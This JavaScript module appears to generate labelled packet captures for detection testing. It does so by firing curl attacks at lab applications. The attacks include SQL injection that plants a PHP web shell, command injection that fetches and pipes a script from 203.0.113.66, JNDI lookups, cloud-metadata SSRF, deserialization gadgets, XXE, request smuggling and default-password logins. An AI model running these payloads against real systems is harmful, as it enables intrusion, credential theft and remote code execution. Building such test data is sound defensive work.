/** Attacks by curl on the vulnerable applications, one capture a technique and outcome. */
const e = encodeURIComponent;
export const form = (path, fields) => [path, ...Object.entries(fields).flatMap(([k, v]) => ['--data-urlencode', `${k}=${v}`])];
export const raw = (path, type, body, ...more) => [path, '-X', 'POST', '-H', `Content-Type: ${type}`, '--data-binary', body, ...more];
const web = (file, requests, more = {}) => ({ file: `web/${file}`, requests, ...more });
const q = (path, name, values) => values.map((v) => [`${path}?${name}=${e(v)}`]);

const sql = [
  web('sqli-union/mariadb-data.pcap', [...q('/item', 'id', ["-1 union select 1,user(),version()", '-1 /*!50000UnIoN*//*!50000SeLeCt*/ 1,2,concat(0x7e,name,0x3a,password) from users']),
    ['/item?id=-1%0aunion%0aall%0aselect%0anull,@@version,database()%23'], ['/item?id=-1%2520union%2520select%25201,2,3']]),
  web('sqli-union/sqlite-data.pcap', q('/lite', 'q', ["x' UNION SELECT 1,sql FROM sqlite_master--", "x' union/**/select/**/name,password/**/from/**/users-- -"])),
  web('sqli-union/postgresql-data.pcap', [form('/pg', { name: "x' UNION ALL SELECT NULL,version()--" })]),
  web('sqli-union/not-injectable.pcap', [...q('/safe', 'q', ["x' UNION SELECT NULL,NULL,NULL-- -"]), ...q('/none', 'id', ['1 union select 1,2,3']), ...q('/waf/item', 'id', ['1 union select 1,2,3'])]),
  web('sqli-error/mariadb.pcap', q('/item', 'id', ["1 and extractvalue(1,concat(0x7e,(select user()),0x7e))", '1 and updatexml(1,concat(0x7e,version()),1)', '1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)'])),
  web('sqli-error/postgresql.pcap', [...q('/pg', 'name', ["x' and 1=cast((select version()) as int)--"]), form('/pg', { name: "x'||cast((select current_user)::text as numeric)||'" })]),
  web('sqli-error/refused.pcap', [...q('/safe', 'q', ["1' and extractvalue(1,concat(0x7e,version()))-- -", "1 and 1=convert(int,@@version)--"]), ...q('/none', 'id', ["1 and updatexml(1,concat(0x7e,user()),1)"])]),
  web('sqli-quote-error/quote.pcap', [...q('/item', 'id', ["1'"]), ...q('/pg', 'name', ["x'"]), ...q('/lite', 'q', ["x'"])]),
  web('sqli-boolean/login-bypass.pcap', [form('/login', { user: "admin' or '1'='1' -- ", password: 'x' }), form('/login', { user: "admin'#", password: '1' })]),
  web('sqli-boolean/blind.pcap', q('/blind', 'id', ['1 and 1=1', '1 and 1=2', "1 and ascii(substring((select password from users limit 1),1,1))>54", '1 && length(database())=4', '1/**/and/**/2=2', '1 oR 7=7', '1 rlike (select (case when (1=1) then 1 else 0x28 end))'])),
  web('sqli-boolean/refused.pcap', [...q('/safe', 'q', ["x' or '1'='1", "x') and ('a'='a"]), ...q('/waf/item', 'id', ['1 and 1=1'])]),
  web('sqli-time/slept.pcap', q('/blind', 'id', ['1 and sleep(5)', '1 and (select 1 from (select(sleep(5)))a)'])),
  web('sqli-time/others.pcap', [...q('/pg', 'name', ["x'; select pg_sleep(5)--"]), ...q('/safe', 'q', ["1' and sleep(5)-- -", "1;waitfor delay '0:0:5'--", "1 and benchmark(5000000,md5(1))", "x'||dbms_pipe.receive_message(chr(65),5)||'", "x' and randomblob(500000000)--"])]),
  web('sqli-stacked/postgresql.pcap', q('/pg', 'name', ["x'; create table t(a text); copy t from program 'id'; select 1,a from t--"])),
  web('sqli-stacked/refused.pcap', q('/safe', 'q', ["1'; drop table users-- -", "1;exec master..xp_cmdshell 'whoami'--", "1';EXEC sp_configure 'show advanced options',1;RECONFIGURE;--", "1; insert into users values(9,'x','x')#"])),
  web('sqli-file/written.pcap', q('/item', 'id', ["-1 union select 1,load_file('/etc/passwd'),3", "-1 union select 1,'<?php @eval($_POST[1]);',3 into outfile '/tmp/sw-none/x.php'"])),
];

const pages = [
  web('xss-reflected/reflected.pcap', [...q('/search', 'q', ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', '<svg/onload=confirm(1)>']), ...q('/search', 'q', ['<a href="javascript:alert(document.cookie)">x</a>'])]),
  web('xss-reflected/escaped.pcap', [...q('/find', 'q', ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>']), ...q('/waf/find', 'q', ['<script>alert(1)</script>'])]),
  web('path-traversal/passwd.pcap', [...q('/download', 'name', ['../../../../../../etc/passwd']), ['/download?name=..%252f..%252f..%252f..%252fetc%252fpasswd'], ['/download?name=..%2f..%2f..%2f..%2fetc/shadow']]),
  web('path-traversal/refused.pcap', [...q('/download', 'name', ['../../../../windows/win.ini', '..\\..\\..\\boot.ini']), ['/static/..%c0%af..%c0%af..%c0%afetc/passwd'], ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'], ['/icons/../../../../../../etc/passwd']]),
  web('path-traversal/windows.pcap', q('/win/download', 'f', ['..\\..\\..\\windows\\win.ini']), { port: 8082 }),
  web('file-inclusion/wrappers.pcap', [...q('/page', 'page', ['php://filter/convert.base64-encode/resource=/etc/hostname', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==', '/etc/passwd']), raw('/page?page=php://input', 'text/plain', "<?php echo system('id');")]),
  web('file-inclusion/refused.pcap', [...q('/none', 'page', ['php://filter/read=convert.base64-encode/resource=index.php', 'expect://id', 'phar://upload/a.jpg/x', 'zip://a.zip%23x']), ...q('/none', 'file', ['http://203.0.113.66/shell.txt?'])]),
  web('os-command-injection/output.pcap', [...q('/ping', 'ip', ['127.0.0.1;id', '127.0.0.1|whoami', '$(cat /etc/passwd)', '`uname -a`', '127.0.0.1 && ls -la /']), ['/ping?ip=127.0.0.1%0aid'], form('/ping', { ip: '127.0.0.1||id' })]),
  web('os-command-injection/refused.pcap', [...q('/ping-safe', 'ip', ['127.0.0.1;id', '127.0.0.1|ping -c 5 127.0.0.1', '`sleep 5`', '127.0.0.1;curl http://203.0.113.66/x.sh|sh', '1;c""at${IFS}/etc/passwd', '1&&net user']), ...q('/waf/ping', 'ip', [';cat /etc/passwd'])]),
  web('os-command-injection/windows.pcap', q('/win/ping', 'ip', ['127.0.0.1&whoami', '127.0.0.1|ipconfig /all']), { port: 8082 }),
  web('php-code-injection/evaluated.pcap', [...q('/calc', 'x', ["system('id')", 'phpinfo()', 'md5(233)', "print_r(scandir('/'))"]), form('/calc', { x: "file_put_contents('/tmp/sw-none.txt','a')" })]),
  web('php-code-injection/refused.pcap', [...q('/safe', 'q', ["${@print(md5(233))}", "assert($_POST[1])", "';phpinfo();//"]), ...q('/none', 'x', ["eval(base64_decode('cGhwaW5mbygpOw=='))"])]),
  web('xxe/file-read.pcap', [raw('/xml', 'application/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><name>&x;</name></r>'), raw('/xml', 'text/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r><name>&x;</name></r>')]),
  web('xxe/refused.pcap', [raw('/xml-safe', 'application/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.66/x.dtd">%p;]><r/>'), raw('/xml-safe', 'application/xml', '<!DOCTYPE r PUBLIC "a" "http://203.0.113.66/x.dtd"><r/>'), form('/xml-safe', { xml: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>' })]),
  web('ssrf/read.pcap', q('/fetch', 'url', ['file:///etc/passwd', 'http://127.0.0.1:8082/latest/meta-data/iam/security-credentials/', 'http://10.42.1.10:8082/latest/meta-data/'])),
  web('ssrf/metadata.pcap', q('/proxy', 'url', ['http://169.254.169.254/latest/meta-data/iam/security-credentials/app', 'http://100.100.100.200/latest/meta-data/']), { port: 8082 }),
  web('ssrf/refused.pcap', [...q('/none', 'url', ['gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall', 'dict://127.0.0.1:6379/info', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:8080/manager/html', 'http://2130706433/', 'http://0x7f000001/admin', 'http://[::1]:22/'])]),
  web('template-injection/jinja.pcap', q('/', 'name', ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", '{{config}}', '{{233*233}}']), { port: 8001 }),
  web('template-injection/refused.pcap', [...q('/safe', 'q', ['${7*7}', '<%= 7*7 %>', '#{7*7}', '*{T(java.lang.Runtime).getRuntime().exec("id")}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#set($e="e")$e.getClass().forName("java.lang.Runtime")', "{{_self.env.registerUndefinedFilterCallback('exec')}}"])]),
  web('php-deserialization/file-read.pcap', [...q('/state', 'data', ['O:4:"Note":1:{s:4:"file";s:11:"/etc/passwd";}'])]),
  web('php-deserialization/refused.pcap', [...q('/none', 'data', ['O:8:"stdClass":1:{s:1:"a";O:3:"Foo":0:{}}']), ['/safe?q=1', '-H', 'Cookie: state=O%3A4%3A%22Note%22%3A1%3A%7Bs%3A4%3A%22file%22%3Bs%3A11%3A%22%2Fetc%2Fpasswd%22%3B%7D'], ['/safe?q=2', '-H', `Cookie: data=${Buffer.from('O:14:"ThinkPHP5Model":1:{s:5:"files";a:0:{}}').toString('base64')}`]]),
  web('python-pickle/command.pcap', [[`/?state=${e(Buffer.from("cposix\nsystem\n(S'id'\ntR.").toString('base64'))}`], [`/?state=${e(Buffer.from("csubprocess\ncheck_output\n(S'id'\ntR.").toString('base64'))}`]], { port: 8001 }),
  web('python-pickle/refused.pcap', [['/none', '-H', `Cookie: session=${Buffer.from('\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.', 'latin1').toString('base64')}`]]),
  web('java-deserialization/error.pcap', [raw('/java/invoke', 'application/x-java-serialized-object', '@/tmp/sw-gadget.ser'), [`/java/invoke?data=${e('rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVz')}`]], { port: 8082 }),
  web('java-deserialization/refused.pcap', [['/none', '-H', 'Cookie: data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IA']]),
  web('dotnet-deserialization/refused.pcap', [form('/none.aspx', { __VIEWSTATE: '/wEy' + Buffer.from(`${'\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00'}System.Data TypeConfuseDelegate System.Diagnostics.Process`, 'latin1').toString('base64'), __VIEWSTATEGENERATOR: 'CA0B0334' }), raw('/api/none', 'application/json', JSON.stringify({ state: Buffer.from('\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem', 'latin1').toString('base64') })), raw('/api/none', 'application/json', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}')]),
  web('dotnet-deserialization/mac-failed.pcap', [form('/win/form.aspx', { __VIEWSTATE: Buffer.from('\xff\x01\x32\x12\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem.Diagnostics.Process', 'latin1').toString('base64') })], { port: 8082 }),
  web('jndi-injection/headers.pcap', [['/', '-H', 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}'], ['/', '-A', '${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}'], [`/?q=${e('${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.66/x}')}`], form('/login', { user: '${jndi:dns://x.203.0.113.66.example/a}', password: 'x' }), [`/?q=${e('${j${env:NONE:-n}di:ldap://203.0.113.66/x}')}`]]),
  web('jndi-injection/blocked.pcap', [[`/waf/?q=${e('${jndi:ldap://203.0.113.66/a}')}`]]),
  web('crlf-injection/split.pcap', [['/legacy/go?url=/%0d%0aSet-Cookie:%20admin=1'], ['/legacy/go?url=/%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E']], { port: 8082 }),
  web('crlf-injection/refused.pcap', [['/go?url=/%0d%0aSet-Cookie:%20admin=1'], ['/none/%0d%0aX-Injected:%20yes'], ['/none?lang=zh%E5%98%8A%E5%98%8DSet-Cookie:%20a=1']]),
  web('open-redirect/redirected.pcap', [['/go?url=//evil.example/%2f..'], [`/go?url=${e('https://evil.example/login')}`]]),
  web('open-redirect/refused.pcap', [['/none?redirect=//evil.example/%2f%2e%2e']]),
  web('nosql-injection/bypass.pcap', [raw('/nosql/login', 'application/json', '{"user":"admin","password":{"$ne":null}}'), raw('/nosql/login', 'application/x-www-form-urlencoded', 'user=admin&password[$ne]=1'), ['/nosql/login?user=admin&password[$regex]=^a']], { port: 8082 }),
  web('nosql-injection/refused.pcap', [raw('/none', 'application/json', '{"user":{"$gt":""},"password":{"$gt":""}}'), [`/none?q=${e("a';return this.password.match(/^a/);//")}`], [`/none?f=${e("1'||this.sleep(5000)||'")}`]]),
  web('ldap-injection/requests.pcap', q('/none', 'user', ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*', 'admin)(!(&(1=0']).concat([form('/none', { user: '*)(|(mail=*' })])),
  web('xpath-injection/requests.pcap', q('/xpath', 'user', ["' or '1'='1' or ''='", "x' or count(parent::*[position()=1])=1 or 'a'='b", "' or substring(//user[1]/secret,1,1)='6", "x']|//*|//x['"])),
  web('shellshock/requests.pcap', [['/cgi-bin/status', '-A', '() { :;}; echo; /bin/bash -c "id"'], ['/cgi-bin/test.sh', '-H', 'Cookie: () { ignored; }; /usr/bin/id']]),
  web('shellshock/executed.pcap', [['/cgi-bin/status', '-A', '() { :;}; echo; echo; /usr/bin/id']], { port: 8082 }),
  web('http-put-script/stored.pcap', [['/dav/x.jsp', '-T', '/tmp/sw-x.jsp'], ['/dav/a.txt', '-T', '/tmp/sw-x.php'], ['/dav/a.txt', '-X', 'MOVE', '-H', 'Destination: http://10.42.1.10:8081/dav/a.php'], ['/dav/x.jsp']], { port: 8081 }),
  web('http-put-script/refused.pcap', [['/x.php', '-T', '/tmp/sw-x.php'], ['/y.asp;.jpg', '-T', '/tmp/sw-x.jsp']], { port: 8081 }),
  { file: 'web/request-smuggling/cl-te.pcap', port: 8081, run: async (attack) => {
    const send = (text) => attack('bash', '-c', `printf '${text}' | timeout 2 ncat 10.42.1.10 8081`);
    const head = 'POST / HTTP/1.1\\r\\nHost: 10.42.1.10\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\n';
    await send(`${head}Content-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nG`);
    await send(`${head}Content-Length: 4\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n12\\r\\nGET /admin HTTP/1.1\\r\\n\\r\\n0\\r\\n\\r\\n`);
    await send(`${head}Content-Length: 6\\r\\nContent-Length: 5\\r\\n\\r\\n12345G`);
  } },
  web('weak-console-password/tomcat.pcap', [['/manager/html', '-u', 'tomcat:tomcat'], ['/manager/html', '-u', 'admin:admin']], { port: 8082 }),
  web('weak-console-password/refused.pcap', [['/manager/html', '-u', 'tomcat:123456'], ['/host-manager/html', '-u', 'admin:admin123']], { port: 8082 }),
  web('weak-form-password/druid.pcap', [form('/druid/submitLogin', { loginUsername: 'druid', loginPassword: 'druid' }), form('/console/j_security_check', { j_username: 'weblogic', j_password: 'weblogic' }), form('/phpmyadmin/index.php', { pma_username: 'root', pma_password: 'root', server: '1' })], { port: 8082 }),
  web('weak-form-password/refused.pcap', [form('/login', { user: 'admin', password: 'admin123' }), raw('/none', 'application/json', '{"username":"admin","password":"123456"}')]),
];

export default [...sql, ...pages];
